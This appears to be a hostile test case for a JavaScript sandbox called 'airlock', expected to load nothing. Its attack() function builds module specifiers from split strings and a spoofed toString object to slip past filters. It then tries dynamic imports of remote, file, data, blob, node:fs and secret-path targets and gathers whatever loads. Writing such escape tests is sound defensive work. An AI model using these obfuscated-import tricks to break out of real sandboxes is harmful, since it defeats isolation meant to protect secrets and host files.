// hostile 6: a computed import of every scheme
// ends: nothing

export async function attack() {
  const loot = [];
  const parts = ["htt", "ps://", "fi", "le://", "da", "ta:", "blo", "b:", "no", "de:"];
  const texts = [
    parts[0] + "p" + "@@SERVER@@".slice(4) + "/x.js",
    parts[0] + parts[1] + "example.com/x.js",
    parts[2] + parts[3] + "@@SECRET_PATH@@",
    parts[4] + parts[5] + "text/javascript,export default 1",
    parts[6] + parts[7] + "null/1",
    parts[8] + parts[9] + "fs",
    "airlock" + ":host",
    "ext" + ":core/mod.js",
    "@@SECRET_PATH@@",
    { toString: () => "node:fs" },
  ];
  for (const text of texts) {
    try {
      const found = await import(text);
      if (text !== "airlock:host") loot.push([String(text), Object.keys(found)]);
    } catch { /* refused */ }
  }
  return loot;
}
